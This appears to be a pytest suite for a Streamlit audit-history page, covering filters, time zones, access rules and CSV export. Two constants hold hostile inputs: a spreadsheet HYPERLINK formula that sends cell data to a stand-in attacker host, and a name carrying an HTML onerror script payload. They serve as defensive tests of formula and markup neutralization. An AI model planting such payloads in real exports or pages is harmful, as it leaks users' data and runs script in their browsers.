"""The history page, headless (AppTest): the audit trail of the demo's review in progress."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from assessment.access.roles import Actor, Role
from assessment.services.assessments import open_assessment
from assessment.services.audit import events
from assessment.services.organizations import create_organization
from assessment.services.responses import set_response
from assessment.storage.store import Store
from assessment.workflow.response import Response
from tests.conftest import open_in_url, unescaped
from tests.people import ADMIN, admin
from ui.pages import history_page

KESTREL = "Kestrel Outdoor Supply (demo)"
HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?leak="&A1, "click me")'
HOSTILE_NAME = "**Eve** <img src=x onerror=alert(1)> [me](http://evil.example) |x|"


def render() -> None:
    from ui.pages import history_page

    history_page.render()


def page(actor: Actor | None = None, **context: str) -> AppTest:
    app = AppTest.from_function(render, default_timeout=60)
    open_in_url(app, 2)
    if actor is not None:
        app.session_state["identity_actor"] = actor
    if context:
        app.context = context
    app.run()
    assert not app.exception, app.exception
    return app


def rerun(app: AppTest) -> AppTest:
    app.run()
    assert not app.exception, app.exception
    return app


def rows(app: AppTest) -> list[dict]:
    (table,) = app.dataframe
    return table.value.to_dict("records")


def score(store: Store, who: Actor, criterion_id: str, value: int, notes: str = "") -> None:
    """Change one response of assessment 2 through the service, as `who`."""
    stored = open_assessment(store, ADMIN, 2).responses[criterion_id]
    set_response(
        store,
        who,
        2,
        criterion_id,
        Response(score=value, notes=notes or stored.response.notes),
        expected_version=stored.version,
    )


def scored_criterion(store: Store) -> tuple[str, int]:
    """A scored criterion of assessment 2 and a score it does not have."""
    for criterion_id, stored in open_assessment(store, ADMIN, 2).responses.items():
        if stored.response.score is not None:
            return criterion_id, (stored.response.score + 1) % 6
    raise AssertionError("the demo review has no scored criterion")


def kestrel_id(store: Store) -> int:
    return open_assessment(store, ADMIN, 2).record.organization_id


def test_an_empty_database_says_there_is_nothing_to_show(data_dir):
    app = AppTest.from_function(render, default_timeout=60).run()
    assert not app.exception, app.exception
    assert "Portfolio page" in app.info[0].value
    assert not app.dataframe


def summary_line(app: AppTest) -> str:
    """The line above the table that counts the events and the people."""
    return next(m.value for m in app.markdown if " event" in m.value and ", by " in m.value)


def test_the_whole_trail_newest_first_with_a_summary(demo):
    app = page()
    trail = events(demo, ADMIN, 2)
    shown = rows(app)
    assert len(shown) == len(trail)
    assert shown[0]["What"] == history_page.what(trail[-1])
    people = {e.actor for e in trail}  # the demo's team in its story, and who loaded it
    assert {r["Who"] for r in shown} == people
    assert "tester" in people
    assert len(people) >= 4
    summary = unescaped(summary_line(app))
    first, last = trail[0].at.date(), trail[-1].at.date()
    assert summary == f"{len(trail)} events, by {len(people)} people, from {first} to {last}."
    assert all(r["When"].endswith(" UTC") for r in shown)
    assert all(len(r["Before"]) <= history_page.SHORT for r in shown)
    assert all(len(r["After"]) <= history_page.SHORT for r in shown)
    assert {"response 4.1.a", "assessment"} <= {r["What"] for r in shown}
    assert any(r["What"].startswith("evidence E") for r in shown)
    assert any(r["What"].startswith("action A") for r in shown)


def test_times_are_local_with_utc_beside_them(demo):
    app = page(timezone="Asia/Kolkata")  # UTC+05:30, no daylight saving
    when = rows(app)[0]["When"]
    assert when.endswith(" UTC)")
    assert " (" in when
    assert any("Asia/Kolkata" in unescaped(c.value) for c in app.caption)


def test_filter_by_criterion_shows_only_its_response_events(demo):
    app = page()
    app.selectbox(key="history_criterion_2").select("4.1.a")
    shown = rows(rerun(app))
    assert shown
    assert {r["What"] for r in shown} == {"response 4.1.a"}
    assert len(shown) == len(events(demo, ADMIN, 2, criterion_id="4.1.a"))


def test_a_new_score_appears_with_who_set_it_and_filters_by_user(demo):
    criterion_id, value = scored_criterion(demo)
    score(demo, admin("Ana Ruiz"), criterion_id, value)
    app = page()
    newest = rows(app)[0]
    assert newest["Who"] == "Ana Ruiz"
    assert newest["What"] == f"response {criterion_id}"
    assert newest["Field"] == "score"
    assert newest["After"] == str(value)
    people = {e.actor for e in events(demo, ADMIN, 2)}
    assert "Ana Ruiz" in people
    assert f"by {len(people)} people" in unescaped(summary_line(app))

    app.selectbox(key="history_user_2").select("Ana Ruiz")
    shown = rows(rerun(app))
    assert shown == [newest]
    assert unescaped(summary_line(app)).startswith("1 event, by 1 person, on ")


def test_selecting_a_row_shows_the_change_in_full(demo):
    criterion_id, value = scored_criterion(demo)
    long_note = " ".join(["A very long note about what was seen."] * 10)
    score(demo, admin("Ana Ruiz"), criterion_id, value, notes=long_note)
    app = page()
    newest = rows(app)[0]
    assert newest["Field"] == "notes"
    assert newest["After"].endswith("…")
    assert len(newest["After"]) == history_page.SHORT
    app.session_state[history_page.TABLE_KEY] = {"selection": {"rows": [0], "columns": []}}
    texts = [t.value for t in rerun(app).text]
    assert f"After: {long_note}" in texts
    assert "Who: Ana Ruiz" in texts


def test_a_range_of_past_days_shows_the_empty_state(demo):
    app = page()
    app.date_input(key="history_since").set_value(date(2020, 1, 1))
    app.date_input(key="history_until").set_value(date(2020, 12, 31))
    rerun(app)
    assert not app.dataframe
    assert "No change matches these filters" in app.info[0].value
    assert not app.get("download_button")


def test_a_range_including_today_keeps_today_s_events(demo):
    today = events(demo, ADMIN, 2)[-1].at.date()  # the loading of the demo
    todays = [e for e in events(demo, ADMIN, 2) if e.at.date() == today]
    app = page()
    app.date_input(key="history_since").set_value(today)
    app.date_input(key="history_until").set_value(today)
    shown = rows(rerun(app))
    assert todays
    assert len(shown) == len(todays) < len(events(demo, ADMIN, 2))


def test_from_after_until_is_explained(demo):
    app = page()
    app.date_input(key="history_since").set_value(date(2026, 5, 2))
    app.date_input(key="history_until").set_value(date(2026, 5, 1))
    rerun(app)
    assert "after the 'Until' day" in app.warning[0].value
    assert not app.dataframe


@pytest.fixture
def downloads(monkeypatch) -> list[tuple[bytes, str | None]]:
    """The data of every file a page offers for download, as the browser would receive it.

    A download built only when clicked (a callable) is called here, as the click would."""
    offered: list[tuple[bytes, str | None]] = []
    original = MemoryMediaFileStorage.load_and_get_id
    original_deferred = MediaFileManager.add_deferred

    def keep(self, path_or_data, mimetype, kind, filename=None):
        if isinstance(path_or_data, bytes):
            offered.append((path_or_data, filename))
        return original(self, path_or_data, mimetype, kind, filename)

    def keep_deferred(self, data_callable, mimetype, coordinates, file_name=None, **kwargs):
        offered.append((data_callable(), file_name))
        return original_deferred(self, data_callable, mimetype, coordinates, file_name, **kwargs)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", keep)
    monkeypatch.setattr(MediaFileManager, "add_deferred", keep_deferred)
    return offered


def test_the_csv_download_is_the_filtered_trail_with_formulas_neutralized(demo, downloads):
    criterion_id, value = scored_criterion(demo)
    score(demo, admin("Ana Ruiz"), criterion_id, value, notes=HOSTILE_NOTE)
    app = page()
    app.selectbox(key="history_user_2").select("Ana Ruiz")
    rerun(app)
    assert app.get("download_button")
    content, name = downloads[-1]
    assert name == "assessment-2-history.csv"
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for UTF-8
    table = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert table[0] == list(history_page.CSV_HEADER)
    by_field = {r[4]: r for r in table[1:]}
    assert set(by_field) == {"score", "notes"}
    assert by_field["notes"][1] == "Ana Ruiz"
    assert by_field["notes"][2:4] == ["response", criterion_id]
    assert by_field["notes"][6] == "'" + HOSTILE_NOTE
    assert by_field["score"][6] == str(value)
    assert by_field["notes"][0].endswith("Z")
    assert not any(cell.startswith("=") for row in table for cell in row)


def test_hostile_names_are_shown_literally(demo):
    criterion_id, value = scored_criterion(demo)
    score(demo, admin(HOSTILE_NAME), criterion_id, value)
    app = page()
    assert rows(app)[0]["Who"] == HOSTILE_NAME
    app.selectbox(key="history_user_2").select(HOSTILE_NAME)
    rerun(app)
    assert {r["Who"] for r in rows(app)} == {HOSTILE_NAME}
    app.session_state[history_page.TABLE_KEY] = {"selection": {"rows": [0], "columns": []}}
    assert f"Who: {HOSTILE_NAME}" in [t.value for t in rerun(app).text]
    for element in [*app.markdown, *app.caption]:
        assert "<img" not in element.value
        assert "](http" not in element.value


def test_a_viewer_reads_the_history(demo):
    viewer = Actor(name="V", roles={kestrel_id(demo): Role.VIEWER})
    app = page(viewer)
    assert len(rows(app)) == len(events(demo, ADMIN, 2))
    assert app.get("download_button")


def test_someone_of_another_organization_sees_no_history(demo):
    other = create_organization(demo, ADMIN, "Other Co")
    outsider = Actor(name="O", roles={other.id: Role.ASSESSOR})
    app = page(outsider)
    assert not app.dataframe
    assert not app.get("download_button")
    assert "no assessments to show the history of" in app.info[0].value
    assert "tester" not in str([e.value for e in app.main if hasattr(e, "value")])
